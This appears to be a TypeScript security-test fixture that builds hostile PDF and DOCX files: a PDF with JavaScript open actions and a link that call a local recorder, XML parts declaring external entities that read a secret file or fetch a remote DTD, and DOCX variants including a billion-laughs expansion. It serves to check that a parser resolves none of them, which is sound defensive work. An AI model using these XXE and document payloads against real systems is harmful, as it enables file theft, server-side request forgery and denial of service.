// Documents that try to make the server reach out or run something: a PDF with JavaScript actions,
// a link and XXE in its XML parts, and DOCX files whose main part declares external entities. Plus
// a recorder that any such reach-out would hit.
import { createServer, type Server } from 'node:http'
import { packageParts } from '../../../packages/documents/src/test-documents.ts'
import { zipEntry, writeZip } from '../../../packages/documents/src/zip.mjs'

/** Counts every request made to it: an entity or action that was followed shows up here. */
export interface Recorder {
  url: string
  hits: string[]
  close(): Promise<void>
}

export async function startRecorder(): Promise<Recorder> {
  const hits: string[] = []
  const server: Server = createServer((request, response) => {
    hits.push(`${request.method ?? ''} ${request.url ?? ''}`)
    response.writeHead(200, { 'content-type': 'application/xml' })
    response.end('<!ENTITY leak "RECORDER-WAS-READ">')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('the recorder is not listening on a TCP port')
  return {
    url: `http://127.0.0.1:${address.port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`
}

/**
 * A one-page PDF with real text (so it can be analyzed) that also carries JavaScript (document
 * open action, page open action, a named script), a link annotation, and XMP metadata and an XFA
 * form whose XML declares external entities pointing at `secretPath` and the recorder.
 */
export function buildHostilePdf(options: { lines: string[]; secretPath: string; recorderUrl: string }): Uint8Array {
  const script = `app.launchURL("${options.recorderUrl}/js-launch", true); this.submitForm("${options.recorderUrl}/js-submit");`
  const xxe = (root: string) =>
    `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY secret SYSTEM "file://${options.secretPath}"><!ENTITY % remote SYSTEM "${options.recorderUrl}/pdf-dtd">%remote;]><${root}>&secret;</${root}>`
  const content = [
    'BT /F1 12 Tf 72 720 Td',
    ...options.lines.map((line, index) => `${index === 0 ? '' : '0 -16 Td '}${pdfString(line)} Tj`),
    'ET',
  ].join('\n')
  const stream = (dictionary: string, data: string) =>
    `<< ${dictionary} /Length ${Buffer.byteLength(data, 'latin1')} >>\nstream\n${data}\nendstream`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [${pdfString('init')} 5 0 R] >> >> /Metadata 6 0 R /AcroForm << /Fields [] /XFA 7 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 8 0 R >> >> /AA << /O 5 0 R >> /Annots [9 0 R] >>',
    stream('', content),
    `<< /Type /Action /S /JavaScript /JS ${pdfString(script)} >>`,
    stream('/Type /Metadata /Subtype /XML', xxe('x:xmpmeta')),
    stream('', xxe('xdp:xdp')),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI ${pdfString(`${options.recorderUrl}/uri`)} >> >>`,
  ]
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
  const offsets: number[] = []
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'))
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
  })
  const xref = Buffer.byteLength(body, 'latin1')
  body +=
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return new Uint8Array(Buffer.from(body, 'latin1'))
}

/** A DOCX whose word/document.xml starts with `doctype` and has `text` (which may use its entities) in one paragraph. */
export function buildDocxWithDoctype(doctype: string, text: string): Uint8Array {
  const xml =
    `<?xml version="1.0" encoding="UTF-8" standalone="no"?>${doctype}` +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
    `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p><w:sectPr/></w:body></w:document>`
  return writeZip([...packageParts(), zipEntry('word/document.xml', Buffer.from(xml, 'utf8'))])
}

/** DOCX main parts declaring entities an XML parser must not resolve, by what they try. */
export function xxeDocxes(options: { secretPath: string; recorderUrl: string; text: string }): Array<[string, Uint8Array]> {
  const { secretPath, recorderUrl, text } = options
  const laughs =
    '<!ENTITY a "lollollollollollollollollollol">' +
    Array.from({ length: 8 }, (_, level) => {
      const previous = level === 0 ? 'a' : `l${level - 1}`
      return `<!ENTITY l${level} "${`&${previous};`.repeat(10)}">`
    }).join('')
  return [
    [
      'an external entity naming a local file',
      buildDocxWithDoctype(`<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file://${secretPath}">]>`, `${text} &secret;`),
    ],
    [
      'an external entity naming a URL',
      buildDocxWithDoctype(`<!DOCTYPE w:document [<!ENTITY remote SYSTEM "${recorderUrl}/docx-entity">]>`, `${text} &remote;`),
    ],
    [
      'an external parameter entity',
      buildDocxWithDoctype(`<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "${recorderUrl}/docx-parameter">%remote;]>`, `${text} &leak;`),
    ],
    ['an external DTD', buildDocxWithDoctype(`<!DOCTYPE w:document SYSTEM "${recorderUrl}/docx-dtd">`, `${text} &leak;`)],
    ['a billion laughs', buildDocxWithDoctype(`<!DOCTYPE w:document [${laughs}]>`, `${text} &l7;`)],
  ]
}
